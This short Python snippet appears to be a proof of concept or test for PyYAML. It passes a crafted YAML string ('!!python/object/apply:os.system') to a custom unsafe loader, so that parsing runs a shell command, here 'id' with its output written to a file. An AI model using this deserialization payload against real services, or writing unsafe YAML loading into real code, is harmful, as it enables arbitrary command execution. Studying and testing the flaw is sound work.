import yaml
class Mine(yaml.constructor.UnsafeConstructor, yaml.SafeLoader):
    pass
class L(yaml.UnsafeLoader):
    pass
yaml.load_all("!!python/object/apply:os.system ['id>pf']", Loader=L).__next__()
